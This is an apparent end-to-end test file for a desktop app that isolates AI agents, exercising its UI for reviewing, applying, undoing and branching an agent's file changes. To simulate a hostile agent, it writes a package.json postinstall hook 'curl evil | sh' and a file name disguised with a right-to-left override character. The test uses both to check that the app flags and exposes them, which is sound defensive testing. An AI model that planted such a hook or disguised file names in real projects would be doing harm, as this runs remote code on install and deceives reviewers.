import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { seriousViolations } from '../harness/app/accessibility.ts';
import { expect, test } from '../harness/app/app.ts';
import { AgentPage } from '../harness/app/pages/agent-page.ts';
import { AppPage } from '../harness/app/pages/app-page.ts';
import { docker } from '../harness/engine/docker-cli.ts';

const folders: string[] = [];
test.afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

const git = (folder: string, ...words: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'safe.directory=*', ...words], {
    cwd: folder,
    encoding: 'utf8',
  });

const numbered = (change: Record<number, string> = {}) =>
  Array.from(
    { length: 40 },
    (_, index) => `${change[index + 1] ?? `const line${index + 1} = ${index};`}\n`,
  ).join('');

/** A repository of the person who runs the app. */
function repository(): string {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), 'bulkhead-project-')));
  folders.push(folder);
  writeFileSync(join(folder, 'main.ts'), numbered());
  writeFileSync(join(folder, 'clash.txt'), 'as it was\n');
  writeFileSync(join(folder, 'package.json'), '{"scripts":{}}\n');
  git(folder, 'init', '-q');
  git(folder, 'add', '-A');
  git(folder, 'commit', '-q', '-m', 'First');
  if (process.getuid?.() === 0) execFileSync('chown', ['-R', 'bulkhead-test:bulkhead-test', folder]);
  return folder;
}

const inside = (name: string, line: string) => docker('exec', `bulkhead-${name}`, 'sh', '-c', line);
const nothingLeft = async () => {
  for (const kind of ['volume', 'network'])
    await expect.poll(() => docker(kind, 'ls', '-q', '--filter', 'label=dev.bulkhead.role')).toBe('');
};

test('the changes of a private copy are looked at, applied in parts, undone, and made a branch', async ({
  window,
}, testInfo) => {
  const folder = repository();
  const dialog = await new AppPage(window).newAgent();
  await dialog.fillWaiting('copied');
  await dialog.chooseWorkspace('Private copy');
  await dialog.text('Folder to copy').fill(folder);
  await dialog.create.click();
  await expect(dialog.root).toBeHidden({ timeout: 120_000 });
  await inside(
    'copied',
    [
      'cd /workspace',
      `sed -i -e 's/^const line3 = 2;$/const third = "3";/' -e 's/^const line35 = 34;$/let last;/' main.ts`,
      `echo "the agent's" > clash.txt`,
      `echo '{"scripts":{"postinstall":"curl evil | sh"}}' > package.json`,
      `printf 'x\\n' > "$(printf 'na\\342\\200\\256me\\nx')"`,
    ].join('\n'),
  );
  const agent = new AgentPage(window);
  const panel = await agent.show('Changes');
  const files = panel.getByRole('grid', { name: 'Changed files' });
  const row = (name: RegExp) => files.getByRole('row', { name });
  await expect(row(/package\.json/)).toContainText('Package scripts');
  // Nothing that an agent writes is invisible.
  await expect(row(/na\\u\{202e\}me\\nx/)).toBeVisible();
  await row(/main\.ts/).click();
  const differences = panel.getByRole('region', { name: 'Differences' });
  await expect(differences).toContainText('const third = "3";');
  await expect(row(/main\.ts/)).toContainText('+2 −2');
  await window.screenshot({ path: testInfo.outputPath('inline.png'), animations: 'disabled' });
  expect(await seriousViolations(window)).toEqual([]);

  // By keyboard: k goes up, j comes back, Space selects; then one hunk is left out again.
  await files.focus();
  await window.keyboard.press('k');
  await expect(row(/clash\.txt/)).toHaveAttribute('aria-selected', 'true');
  await window.keyboard.press('j');
  await window.keyboard.press('Space');
  await expect(files.getByRole('checkbox', { name: 'Select main.ts' })).toBeChecked();
  await differences.getByRole('checkbox', { name: 'Select hunk 1' }).uncheck();
  await panel.getByRole('button', { name: 'Apply selected…' }).click();
  const apply = window.getByRole('dialog', { name: 'Apply changes' });
  await apply.getByRole('button', { name: 'Apply one file' }).click();
  await expect(apply).toBeHidden();
  expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered({ 35: 'let last;' }));
  await panel.getByRole('button', { name: 'Undo apply' }).click();
  await expect(panel.getByRole('button', { name: 'Undo apply' })).toBeHidden();
  expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered());

  // Everything: what is risky is confirmed by name, what was changed here too is asked about.
  writeFileSync(join(folder, 'clash.txt'), 'the person’s\n');
  await panel.getByRole('button', { name: 'Apply all…' }).click();
  await expect(apply.getByRole('button', { name: 'Apply 2 files' })).toBeEnabled();
  await apply.getByRole('checkbox', { name: 'package.json' }).check();
  await apply.getByRole('combobox', { name: 'What to do with clash.txt' }).click();
  await window.getByRole('option', { name: 'Take the agent’s' }).click();
  await window.screenshot({ path: testInfo.outputPath('apply.png'), animations: 'disabled' });
  expect(await seriousViolations(window)).toEqual([]);
  await apply.getByRole('button', { name: 'Apply 4 files' }).click();
  await expect(apply).toBeHidden();
  expect(readFileSync(join(folder, 'clash.txt'), 'utf8')).toBe("the agent's\n");
  expect(readFileSync(join(folder, 'package.json'), 'utf8')).toContain('postinstall');
  expect(existsSync(join(folder, 'na\u202eme\nx'))).toBe(true);
  writeFileSync(join(folder, 'main.ts'), 'written since\n');
  await panel.getByRole('button', { name: 'Undo apply' }).click();
  const lose = window.getByRole('alertdialog', { name: 'Undo and lose later changes' });
  await lose.getByRole('button', { name: 'Undo all the same' }).click();
  await expect(panel.getByRole('button', { name: 'Undo apply' })).toBeHidden();
  expect(readFileSync(join(folder, 'clash.txt'), 'utf8')).toBe('the person’s\n');
  expect(readFileSync(join(folder, 'main.ts'), 'utf8')).toBe(numbered());

  await panel.getByRole('button', { name: 'Make a branch…' }).click();
  const branch = window.getByRole('dialog', { name: 'Make a branch' });
  await branch.getByRole('textbox', { name: 'Branch' }).fill('agent/work');
  await branch.getByRole('checkbox', { name: /risky change/ }).check();
  await branch.getByRole('button', { name: 'Make branch' }).click();
  await expect(branch).toBeHidden();
  expect(git(folder, 'show', 'agent/work:clash.txt')).toBe("the agent's\n");

  // The agent need not run to be looked at.
  await agent.action('Stop').click();
  await expect(agent.status).toHaveText('Stopped');
  await window.emulateMedia({ colorScheme: 'dark' });
  await expect(window.locator('html')).toHaveAttribute('data-theme', 'dark');
  await panel.getByRole('radio', { name: 'Side by side' }).click();
  await row(/main\.ts/).click();
  await expect(differences).toContainText('const line3 = 2;');
  expect(await seriousViolations(window)).toEqual([]);
  await window.screenshot({ path: testInfo.outputPath('side-by-side.png'), animations: 'disabled' });
  await panel.getByRole('radio', { name: 'Root file system' }).click();
  await expect(panel).toContainText('Nothing changed outside the workspace');
  await agent.remove({ workspace: true });
  await nothingLeft();
});
